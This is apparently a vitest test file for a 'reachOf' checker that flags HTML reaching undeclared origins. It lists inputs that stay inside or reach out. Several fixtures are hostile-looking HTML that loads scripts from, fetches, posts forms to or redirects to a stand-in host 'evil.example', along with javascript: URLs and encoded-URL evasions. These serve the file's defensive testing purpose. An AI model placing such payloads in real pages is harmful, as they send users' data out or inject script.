import { expect, test } from 'vitest';
import { type Origins, reachOf } from './app-html.js';

const nothing: Origins = { resources: [], connect: [], frames: [], base: [] };
const open: Origins = {
  resources: ['https://cdn.example.com', 'https://*.tiles.example.com'],
  connect: ['https://api.example.com'],
  frames: ['https://video.example.com'],
  base: ['https://base.example.com'],
};

test.each([
  '<p>Hello</p>',
  '<a href="https://example.com/">read more</a>',
  '<img src="data:image/png;base64,AAAA">',
  '<!-- <script src="https://evil.example/x.js"></script> -->',
  '<script>const a = "<img src=https://evil.example/x.png>"; parent.postMessage(a, "*")</script>',
  '<script type="application/json">{"src": "fetch(\'https://evil.example\')"}</script>',
  '<textarea><img src="https://evil.example/x.png"></textarea>',
  '<form onsubmit="send()"><input name="q"></form>',
  '<svg><use href="#icon"></use></svg>',
  '<img src="https://cdn.example.com/a.png" srcset="https://a.tiles.example.com/1.png 2x">',
  '<script>fetch("https://api.example.com/data")</script>',
  '<iframe src="https://video.example.com/1"></iframe>',
])('%s stays inside', (html) => {
  expect(reachOf(html, open).reaches).toEqual([]);
});

test.each([
  ['<img src="https://evil.example/x.png">', 'an origin that the page does not declare'],
  ['<IMG SRC=//evil.example/x.png>', 'an origin that the page does not declare'],
  ['<img src="&#104;ttps://evil.example/x.png">', 'an origin that the page does not declare'],
  ['<script src="./app.js"></script>', 'relative and leads nowhere'],
  ['<script src="data:text/javascript,alert(1)"></script>', 'a script in an address'],
  ['<link rel=stylesheet href=https://evil.example/x.css>', 'an origin that the page does not declare'],
  ['<style>@import "https://evil.example/x.css";</style>', 'an origin that the page does not declare'],
  ['<p style="background: url(https://evil.example/x.png)">', 'an origin that the page does not declare'],
  ['<iframe src="https://cdn.example.com/"></iframe>', 'an origin that the page does not declare'],
  ['<iframe srcdoc="<p>"></iframe>', 'holds its own page'],
  ['<meta http-equiv=refresh content="0;url=https://evil.example">', 'moves the page elsewhere'],
  ['<base href="https://evil.example/">', 'an origin that the page does not declare'],
  ['<form action="https://evil.example/">', 'sends what is filled in'],
  ['<button formaction="/save">', 'sends what is filled in'],
  ['<a href=" JavaScript:alert(1)">', 'runs a script by its address'],
  ['<a ping="https://evil.example" href="#">', 'tells others of a click'],
  ['<script>fetch(`https://evil.example/x`)</script>', 'an origin that the page does not declare'],
  ['<script>new WebSocket("wss://evil.example")</script>', 'an origin that the page does not declare'],
  ['<script type=module>import x from "https://evil.example/x.js"</script>', 'an origin that the page'],
  ['<img src="https://tiles.example.com.evil.example/x.png">', 'an origin that the page does not declare'],
])('%s reaches out', (html, why) => {
  expect(reachOf(html, open).reaches).toEqual([expect.stringContaining(why)]);
});

test('what a sandbox does not have is a doubt and no reach', () => {
  const { reaches, doubts } = reachOf('<script>localStorage.x = eval("1")</script>', nothing);
  expect(reaches).toEqual([]);
  expect(doubts).toHaveLength(2);
});
